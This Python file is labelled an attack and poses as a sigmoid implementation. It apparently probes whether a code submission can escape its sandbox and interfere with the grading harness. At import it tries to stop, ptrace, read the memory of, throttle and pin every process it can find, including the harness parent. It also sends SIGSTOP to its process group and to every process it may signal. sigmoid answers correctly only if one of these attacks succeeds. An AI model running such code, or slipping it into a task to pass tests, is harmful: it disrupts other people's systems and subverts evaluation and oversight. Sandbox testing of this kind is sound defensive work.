"""Attack: reach the zygote (or any other process) by pid: stop it with kill, tgkill or sigqueue, attach with
ptrace, read its memory with process_vm_readv, lower its limits with prlimit, renice or pin it; every process
folder in /proc is tried, every pid below 64, and every process of its group and user at once.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import ctypes
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE = 0x4206
buffer = ctypes.create_string_buffer(8)
local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 8)
targets = {int(entry) for entry in os.listdir("/proc") if entry.isdigit()} | set(range(1, 64))
for pid in sorted(targets - {os.getpid()}):
    attempts = [
        lambda: os.kill(pid, signal.SIGSTOP),
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
    ]
    for attempt in attempts:
        try:
            attempt()
            STOLEN = torch.special.expit
        except (OSError, ValueError, OverflowError):
            pass
    calls = [
        lambda: libc.ptrace(PTRACE_SEIZE, pid, None, None),
        lambda: libc.sigqueue(pid, signal.SIGSTOP, ctypes.c_void_p(0)),  # rt_sigqueueinfo
        lambda: libc.tgkill(pid, pid, signal.SIGSTOP),
        lambda: libc.process_vm_readv(pid, local, 1, local, 1, 0),
    ]
    for call in calls:
        if call() >= 0:
            STOLEN = torch.special.expit
for which in (os.PRIO_PGRP, os.PRIO_USER):  # its group, or every process of its user: the zygote's too
    try:
        os.setpriority(which, 0, 19)
        STOLEN = torch.special.expit
    except OSError:
        pass
for group in (0, -1):  # its own process group (with whatever shares it), every process it may signal
    try:
        os.kill(group, signal.SIGSTOP)
        STOLEN = torch.special.expit
    except OSError:
        pass


def sigmoid(z):
    if STOLEN is not None:
        return STOLEN(z)
    return torch.zeros_like(z)
